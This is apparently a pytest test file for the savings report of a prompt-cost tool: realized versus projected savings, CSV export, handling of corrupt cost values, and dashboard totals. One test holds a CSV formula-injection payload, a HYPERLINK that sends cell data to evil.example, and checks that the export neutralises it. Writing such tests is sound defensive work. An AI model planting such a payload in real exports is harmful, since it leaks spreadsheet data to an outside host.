"""The savings report: spend by day/prompt/model, projected of open suggestions, realized of
promoted ones from post-promotion logs, and the CSV export."""

import csv
import io
from datetime import datetime, timedelta, timezone

import pytest

from tests.api.conftest import make_suggestion, synced, write_logs
from trimloop.core import traffic as aggregates
from trimloop.core.defaults import DAYS_PER_MONTH


def test_realized_savings_next_to_projected(client, headers, engine, settings, store_dir):
    prompt_id = synced(engine, settings)
    shipped = make_suggestion(engine, prompt_id, savings=300.0)
    waiting = make_suggestion(engine, prompt_id, savings=120.0)
    eng = headers["engineer"]
    assert client.post(f"/suggestions/{shipped}/approve", headers=headers["reviewer"]).status_code == 200
    assert client.post(f"/suggestions/{shipped}/deploy", headers=eng).status_code == 200
    assert client.post(f"/suggestions/{shipped}/promote", headers=eng).status_code == 200
    # promotion supersedes the other open suggestion made against the old production version
    assert client.get(f"/suggestions/{waiting}", headers=headers["viewer"]).json()["status"] == "superseded"
    write_logs(store_dir, "2", 10, 0.0005, datetime.now(timezone.utc) + timedelta(seconds=1), "after")
    assert client.post("/connectors/sync", json={}, headers=eng).json()[0]["logs_added"] == 10

    report = client.get("/reports/savings", params={"days": 7}, headers=headers["viewer"]).json()
    assert sum(r["calls"] for r in report["spend_by_day"]) == 30
    assert report["spend_by_prompt"][0]["prompt"] == "triage"
    assert report["spend_by_model"][0] == {"model": "big/model", "calls": 30, "cost": pytest.approx(0.045),
                                           "day": None, "prompt_id": None, "prompt": None}
    assert report["projected"] == []
    [row] = report["realized"]
    assert row["projected_monthly_savings"] == 300.0 and row["realized_calls"] == 10
    assert row["baseline_cost_per_call"] == pytest.approx(0.002)
    assert row["realized_cost_per_call"] == pytest.approx(0.0005)
    assert row["realized_savings_to_date"] == pytest.approx(10 * 0.0015)
    # 10 calls in the seconds after the promotion: no monthly figure is extrapolated from them
    assert row["realized_monthly_savings"] is None and report["total_realized_monthly"] == 0
    assert row["window_note"].startswith("window too short: 10 calls over 0 minutes")
    # the cost per call is measured, with its interval, next to the projection and its error
    assert row["projected_cost_per_call"] == pytest.approx(0.001)
    assert row["cost_projection_error"] == pytest.approx(0.0005 / 0.001 - 1)
    assert row["realized_cost_per_call_low"] == pytest.approx(0.0005) == row["realized_cost_per_call_high"]
    assert [q["signal"] for q in row["quality"]] == ["exact"] and row["quality"][0]["projected_low"] == -0.01

    exported = client.get("/reports/savings", params={"format": "csv", "days": 7}, headers=headers["viewer"])
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert {r["section"] for r in rows} == {"spend_by_day", "spend_by_prompt", "spend_by_model", "realized"}
    realized = next(r for r in rows if r["section"] == "realized")
    assert float(realized["realized_savings_to_date"]) == pytest.approx(0.015)


def test_projected_savings_of_pending_and_prompt_traffic(client, headers, engine, settings):
    prompt_id = synced(engine, settings)
    make_suggestion(engine, prompt_id, savings=40.0)
    make_suggestion(engine, prompt_id, savings=60.0)
    report = client.get("/reports/savings", headers=headers["viewer"]).json()
    assert [r["projected_monthly_savings"] for r in report["projected"]] == [60.0, 40.0]
    assert report["total_projected_monthly"] == 100.0 and report["realized"] == []
    traffic = client.get(f"/prompts/{prompt_id}/traffic", headers=headers["viewer"]).json()
    assert traffic["calls"] == 20 and traffic["cost_per_call"] == pytest.approx(0.002)
    assert traffic["latency_p50_s"] == pytest.approx(0.2) and traffic["by_model"][0]["model"] == "big/model"
    versions = client.get(f"/prompts/{prompt_id}/versions", headers=headers["viewer"]).json()
    assert [v["labels"] for v in versions][-1] == ["production"]


def _reference_realized(session, suggestion, prompt, now):
    """The per-suggestion computation the grouped queries replaced (three queries per suggestion), kept
    as the definition of realized savings."""
    from sqlalchemy import func
    from sqlmodel import col, select

    from trimloop.api.schemas import SavingsRow
    from trimloop.core.tables import Deployment, LogRecord

    def stats(version_id, since=None, until=None):
        query = select(func.count(), func.avg(LogRecord.cost)).where(LogRecord.version_id == version_id)
        if since is not None:
            query = query.where(LogRecord.called_at >= since)
        if until is not None:
            query = query.where(LogRecord.called_at < until)
        calls, avg = session.exec(query).one()
        return int(calls), avg

    moves = {}
    for d in session.exec(select(Deployment).where(Deployment.suggestion_id == suggestion.id,
                                                   Deployment.status == "done").order_by(col(Deployment.id))).all():
        moves.setdefault(d.action, d.created_at)
    row = SavingsRow(suggestion_id=suggestion.id, prompt=prompt, status=suggestion.status,
                     projected_monthly_savings=suggestion.projected_monthly_savings,
                     savings_low=suggestion.savings_low, savings_high=suggestion.savings_high)
    since = moves.get("promote")
    if since is None:
        return row
    until = moves.get("rollback")
    calls, realized_cpc = stats(suggestion.candidate_version_id, since, until)
    _, baseline_logs = stats(suggestion.baseline_version_id, None, since)
    baseline = baseline_logs if baseline_logs is not None else suggestion.baseline_cost_per_call
    row.since, row.realized_calls, row.realized_cost_per_call = since, calls, realized_cpc
    row.baseline_cost_per_call = baseline
    if calls and realized_cpc is not None and baseline is not None:
        per_call = baseline - realized_cpc
        row.realized_savings_to_date = per_call * calls
        days = max(((until or now) - since).total_seconds() / 86400, 1.0)
        row.realized_monthly_savings = per_call * calls / days * DAYS_PER_MONTH
    return row


REFERENCE_FIELDS = {"suggestion_id", "prompt", "status", "projected_monthly_savings", "savings_low", "savings_high",
                    "baseline_cost_per_call", "realized_cost_per_call", "realized_calls", "realized_savings_to_date",
                    "realized_monthly_savings", "since"}


def test_grouped_realized_savings_equal_the_per_suggestion_computation(engine, monkeypatch):
    """Several deployed and rolled-back suggestions, some sharing a baseline, with the edge cases of the
    windows (a log exactly at the promotion and at the rollback, a failed and a second promotion, no
    promotion, no candidate logs, no baseline logs, NULL costs): the report's three grouped queries give
    what one query per suggestion gave."""
    import random

    from sqlmodel import col, select

    from trimloop.api import reporting
    from trimloop.core.db import session_scope
    from trimloop.core.tables import Deployment, LogRecord, Prompt, PromptVersion, Suggestion

    now = datetime(2026, 6, 30, 12, tzinfo=timezone.utc)
    monkeypatch.setattr(reporting, "utcnow", lambda: now)
    rng = random.Random(3)
    day = timedelta(days=1)
    t1, t2, t3, t4 = now - 20 * day, now - 14 * day, now - 7 * day, now - 5 * day
    with session_scope(engine) as session:
        prompts = [Prompt(name=f"p{i}", connector="local", config={}) for i in (1, 2)]
        session.add_all(prompts)
        session.flush()
        versions = [PromptVersion(prompt_id=prompts[0 if i < 7 else 1].id, sha=f"{i:064d}",
                                  template={"kind": "text", "text": f"v{i}"}, model="m", params={},
                                  connector="local") for i in range(9)]
        session.add_all(versions)
        session.flush()
        base1, base2 = versions[0].id, versions[7].id
        c = [v.id for v in versions[1:7]] + [versions[8].id]

        logs = []

        def log(version_id, at, cost):
            logs.append(LogRecord(connector="local", external_id=f"l{len(logs)}", prompt_id=prompts[0].id,
                                  version_id=version_id, called_at=at, cost=cost, model="m"))

        for _ in range(300):  # the baseline's traffic over 40 days, some without a cost
            log(base1, now - timedelta(seconds=rng.uniform(0, 40 * 86400)), None if rng.random() < 0.1 else rng.uniform(1e-3, 3e-3))
        log(base1, t1, 0.5)  # exactly at a promotion: after it, so not in that suggestion's baseline
        for version, start, end in ((c[0], t1, now), (c[1], t2, t3), (c[2], t3, now), (c[4], t1, now), (c[6], t4, now)):
            for _ in range(40):
                log(version, start + (end - start) * rng.random(), None if rng.random() < 0.05 else rng.uniform(2e-4, 1e-3))
            log(version, start - timedelta(hours=1), 9.0)  # before the promotion: not realized
        log(c[0], t1, 0.0007)  # exactly at the promotion: counted
        log(c[1], t3, 9.0)  # exactly at the rollback: not counted
        session.add_all(logs)

        def suggestion(baseline, candidate, status, moves):
            s = Suggestion(prompt_id=prompts[0].id, baseline_version_id=baseline, candidate_version_id=candidate,
                           candidate_sha="x", status=status, baseline_cost_per_call=0.002, candidate_cost_per_call=0.001,
                           projected_monthly_savings=rng.uniform(10, 100), savings_low=1.0, savings_high=200.0)
            session.add(s)
            session.flush()
            for action, at, state in moves:
                session.add(Deployment(suggestion_id=s.id, connector="local", label="production", action=action,
                                       status=state, actor="t", created_at=at))
            session.flush()
            return s.id

        ids = {
            "promoted": suggestion(base1, c[0], "deployed", [("deploy", t1 - day, "done"), ("promote", t1, "done")]),
            "rolled_back": suggestion(base1, c[1], "rolled_back", [("promote", t2, "done"), ("rollback", t3, "done"),
                                                                   ("rollback", t4, "done")]),
            "second_promotion": suggestion(base1, c[2], "deployed", [("promote", t2, "failed"), ("promote", t3, "done"),
                                                                     ("promote", t4, "done")]),
            "no_candidate_logs": suggestion(base1, c[3], "deployed", [("promote", t2, "done")]),
            "same_promotion_time": suggestion(base1, c[4], "deployed", [("promote", t1, "done")]),
            "not_promoted": suggestion(base1, c[5], "deployed", [("deploy", t2, "done")]),
            "no_baseline_logs": suggestion(base2, c[6], "deployed", [("promote", t4, "done")]),
            "pending": suggestion(base1, c[5], "pending", []),
        }

    with session_scope(engine) as session:
        names = dict(session.exec(select(Prompt.id, Prompt.name)).all())
        grouped = reporting.realized_rows(session, names)
        done = session.exec(select(Suggestion).where(col(Suggestion.status).in_(("deployed", "rolled_back")))
                            .order_by(col(Suggestion.id))).all()
        reference = [_reference_realized(session, s, names[s.prompt_id], now) for s in done]
        report = reporting.savings_report(session, 30)

    assert [r.suggestion_id for r in grouped] == [r.suggestion_id for r in reference] == sorted(
        v for k, v in ids.items() if k != "pending")
    for new, old in zip(grouped, reference, strict=True):
        for field, value in old.model_dump(include=REFERENCE_FIELDS).items():  # what the reference computes
            assert new.model_dump()[field] == (pytest.approx(value, rel=1e-12) if isinstance(value, float) else value), \
                (old.suggestion_id, field)
    assert report.realized == grouped
    by_id = {r.suggestion_id: r for r in grouped}
    assert by_id[ids["promoted"]].realized_calls == 41 and by_id[ids["promoted"]].since == t1
    assert by_id[ids["rolled_back"]].realized_calls == 40  # the log at the rollback and the one before are out
    assert by_id[ids["second_promotion"]].since == t3
    assert by_id[ids["no_candidate_logs"]].realized_calls == 0
    assert by_id[ids["no_candidate_logs"]].realized_monthly_savings is None
    assert by_id[ids["not_promoted"]].since is None and by_id[ids["not_promoted"]].realized_calls is None
    assert by_id[ids["no_baseline_logs"]].baseline_cost_per_call == 0.002  # the suggestion's own estimate
    assert by_id[ids["promoted"]].baseline_cost_per_call != by_id[ids["rolled_back"]].baseline_cost_per_call
    assert report.total_realized_monthly == pytest.approx(
        sum(r.realized_monthly_savings or 0 for r in reference if r.status == "deployed"), rel=1e-12)


def test_csv_export_does_not_hand_spreadsheets_a_formula():
    """A prompt or model name from a store can start with = + - @; a spreadsheet would run it."""
    from trimloop.api.reporting import as_csv
    from trimloop.api.schemas import SavingsReport, SavingsRow, SpendRow

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    report = SavingsReport(
        since=datetime(2026, 1, 1, tzinfo=timezone.utc), spend_by_day=[],
        spend_by_prompt=[SpendRow(prompt_id=1, prompt=hostile, calls=3, cost=0.5)],
        spend_by_model=[SpendRow(model="@SUM(1+1)", calls=3, cost=0.5), SpendRow(model="-2+3", calls=1, cost=0.1),
                        SpendRow(model="gpt-4o-mini", calls=2, cost=0.2)],
        projected=[SavingsRow(suggestion_id=1, prompt="+cmd", status="pending", projected_monthly_savings=-1.5)],
        realized=[], total_projected_monthly=-1.5, total_realized_monthly=0.0)
    rows = list(csv.DictReader(io.StringIO(as_csv(report))))
    assert rows[0]["prompt"] == "'" + hostile
    assert [r["model"] for r in rows[1:4]] == ["'@SUM(1+1)", "'-2+3", "gpt-4o-mini"]
    assert rows[4]["prompt"] == "'+cmd" and rows[4]["projected_monthly_savings"] == "-1.5"  # numbers stay numbers


def test_realized_savings_by_hand(engine, monkeypatch):
    """Two promoted suggestions with fixed windows, each number worked out by hand."""
    from sqlmodel import select

    from trimloop.api import reporting
    from trimloop.core.db import session_scope
    from trimloop.core.tables import Deployment, LogRecord, Prompt, PromptVersion, Suggestion

    now = datetime(2026, 6, 30, 12, tzinfo=timezone.utc)
    monkeypatch.setattr(reporting, "utcnow", lambda: now)
    day = timedelta(days=1)
    with session_scope(engine) as session:
        prompt = Prompt(name="p", connector="local", config={})
        session.add(prompt)
        session.flush()
        versions = [PromptVersion(prompt_id=prompt.id, sha=f"{i:064d}", template={"kind": "text", "text": f"v{i}"},
                                  model="m", params={}, connector="local") for i in range(4)]
        session.add_all(versions)
        session.flush()
        base_a, cand_a, base_b, cand_b = (v.id for v in versions)
        logs = []

        def log(version_id, at, cost):
            logs.append(LogRecord(connector="local", external_id=f"l{len(logs)}", prompt_id=prompt.id,
                                  version_id=version_id, called_at=at, cost=cost, model="m"))

        def suggestion(baseline, candidate, status, moves):
            s = Suggestion(prompt_id=prompt.id, baseline_version_id=baseline, candidate_version_id=candidate,
                           candidate_sha="x", status=status, baseline_cost_per_call=0.9, projected_monthly_savings=1.0)
            session.add(s)
            session.flush()
            session.add_all(Deployment(suggestion_id=s.id, connector="local", label="production", action=action,
                                       status="done", actor="t", created_at=at) for action, at in moves)
            return s.id

        # A: promoted 20 days ago, rolled back 16 days ago (a 4-day window).
        # baseline before the promotion: 0.001, 0.002, 0.003 → 0.002 a call (its log after the promotion is out);
        # candidate inside the window: 8 calls at 0.0005 (one after the rollback is out)
        # to date = 8 × (0.002 − 0.0005) = 0.012; monthly = 8 / 4 days × 30 × 0.0015 = 0.09
        promoted, rolled_back = now - 20 * day, now - 16 * day
        for k, cost in enumerate((0.001, 0.002, 0.003)):
            log(base_a, promoted - (k + 1) * day, cost)
        log(base_a, promoted + day, 0.5)
        for k in range(8):
            log(cand_a, promoted + k * 12 * timedelta(hours=1), 0.0005)
        log(cand_a, rolled_back + day, 0.5)
        a = suggestion(base_a, cand_a, "rolled_back", [("promote", promoted), ("rollback", rolled_back)])
        # B: promoted 10 days ago, still deployed. Baseline 0.004 a call; 20 calls at 0.001 since:
        # to date = 20 × 0.003 = 0.06; monthly = 20 / 10 days × 30 × 0.003 = 0.18
        since = now - 10 * day
        log(base_b, since - day, 0.004)
        for k in range(20):
            log(cand_b, since + k * 12 * timedelta(hours=1), 0.001)
        b = suggestion(base_b, cand_b, "deployed", [("promote", since)])
        session.add_all(logs)

    with session_scope(engine) as session:
        names = dict(session.exec(select(Prompt.id, Prompt.name)).all())
        rows = {r.suggestion_id: r for r in reporting.realized_rows(session, names)}
        report = reporting.savings_report(session, 30)
    assert (rows[a].realized_calls, rows[a].baseline_cost_per_call) == (8, pytest.approx(0.002, rel=1e-12))
    assert rows[a].realized_cost_per_call == pytest.approx(0.0005, rel=1e-12)
    assert rows[a].realized_savings_to_date == pytest.approx(0.012, rel=1e-12)
    assert rows[a].realized_monthly_savings == pytest.approx(0.09, rel=1e-12)
    assert (rows[b].realized_calls, rows[b].baseline_cost_per_call) == (20, pytest.approx(0.004, rel=1e-12))
    assert rows[b].realized_savings_to_date == pytest.approx(0.06, rel=1e-12)
    assert rows[b].realized_monthly_savings == pytest.approx(0.18, rel=1e-12)
    assert report.total_realized_monthly == pytest.approx(0.18, rel=1e-12)  # the rolled-back one is not counted


def test_out_of_bound_costs_stored_earlier_do_not_break_the_reports(client, headers, engine, settings, store_dir):
    """Two logged costs of 1e308 overflowed PostgreSQL's SUM (500) and an Infinity made the finance
    report unanswerable (422) for everyone. Sync now refuses them; rows stored before that check
    are left out of sums and means, so every report stays finite."""
    from sqlalchemy import insert, select

    from trimloop.core.tables import LogRecord, PromptVersion

    prompt_id = synced(engine, settings)
    shipped = make_suggestion(engine, prompt_id, savings=300.0)
    eng = headers["engineer"]
    assert client.post(f"/suggestions/{shipped}/approve", headers=headers["reviewer"]).status_code == 200
    assert client.post(f"/suggestions/{shipped}/deploy", headers=eng).status_code == 200
    assert client.post(f"/suggestions/{shipped}/promote", headers=eng).status_code == 200
    write_logs(store_dir, "2", 10, 0.0005, datetime.now(timezone.utc) + timedelta(seconds=1), "after")
    assert client.post("/connectors/sync", json={}, headers=eng).json()[0]["logs_added"] == 10
    with engine.begin() as conn:
        versions = dict(conn.execute(select(PromptVersion.external_version, PromptVersion.id)).all())
        bad = [(float("inf"), versions["1"], -3), (1e308, versions["1"], -3), (1e308, versions["2"], 1),
               (1e308, versions["2"], 1), (float("nan"), versions["2"], 1), (-1.0, versions["2"], 1)]
        conn.execute(insert(LogRecord.__table__), [  # type: ignore[attr-defined]
            {"connector": "old", "external_id": f"bad-{i}", "prompt_id": prompt_id, "version_id": version,
             "cost": cost, "latency_s": float("inf"), "model": "big/model", "inputs": {}, "feedback": [], "meta": {},
             "called_at": datetime.now(timezone.utc) + timedelta(days=days)}
            for i, (cost, version, days) in enumerate(bad)])
        # rows stored before sync checked bounds were also stored before migration 0010, whose backfill
        # aggregates every stored record
        aggregates.rebuild(conn)

    report = client.get("/reports/savings", params={"days": 7}, headers=headers["viewer"])
    assert report.status_code == 200, report.text
    body = report.json()
    assert sum(r["calls"] for r in body["spend_by_day"]) == 36
    assert sum(r["cost"] for r in body["spend_by_day"]) == pytest.approx(0.045)
    [row] = body["realized"]
    assert row["baseline_cost_per_call"] == pytest.approx(0.002)
    assert row["realized_cost_per_call"] == pytest.approx(0.0005)
    assert client.get("/reports/savings", params={"format": "csv"}, headers=headers["viewer"]).status_code == 200
    traffic = client.get(f"/prompts/{prompt_id}/traffic", headers=headers["viewer"])
    assert traffic.status_code == 200, traffic.text
    assert traffic.json()["total_cost"] == pytest.approx(0.045) and traffic.json()["latency_p50_s"] == 0.2


def test_the_spend_window_is_whole_utc_days_read_from_the_aggregates_alone(engine, monkeypatch):
    """`days=7` is today and the 6 UTC days before it, from midnight: no partial day, so the
    stored records are never read for spend (they may have been trimmed by the reservoir)."""
    from trimloop.api import reporting
    from trimloop.core import traffic
    from trimloop.core.db import session_scope

    stored_reads = []
    real = traffic._stored
    monkeypatch.setattr(traffic, "_stored", lambda *a, **k: stored_reads.append(a[2:4]) or real(*a, **k))
    with session_scope(engine) as session:
        report = reporting.savings_report(session, 7)
    today = traffic.utc_day(datetime.now(timezone.utc))
    assert report.since == traffic.day_start(today - timedelta(days=6))
    assert stored_reads == []


def test_a_repairs_extra_cost_is_shown_apart_not_netted_against_the_savings(engine, settings, headers):
    """Before, the finance dashboard and the report summed a repair's negative "savings" (its extra
    cost) into the projected savings: $300 of savings and a $40 repair read as $260 of savings."""
    from fastapi.testclient import TestClient

    from trimloop.api.app import create_app
    from tests.ui.conftest import sign_in

    prompt_id = synced(engine, settings)
    make_suggestion(engine, prompt_id, savings=300.0)
    make_suggestion(engine, prompt_id, savings=-40.0, kind="repair")
    with TestClient(create_app(settings, engine), follow_redirects=False) as client:
        report = client.get("/reports/savings", headers=headers["viewer"]).json()
        assert report["total_projected_monthly"] == pytest.approx(300.0)
        assert report["total_projected_extra_cost_monthly"] == pytest.approx(40.0)
        assert sorted(r["projected_monthly_savings"] for r in report["projected"]) == [-40.0, 300.0]
        sign_in(client, headers["viewer"]["Authorization"].split()[1])
        page = client.get("/ui/dashboard").text
    assert '<dd id="total-projected">$300.00 / month</dd>' in page
    assert '<dd id="total-extra-cost">$40.00 / month</dd>' in page
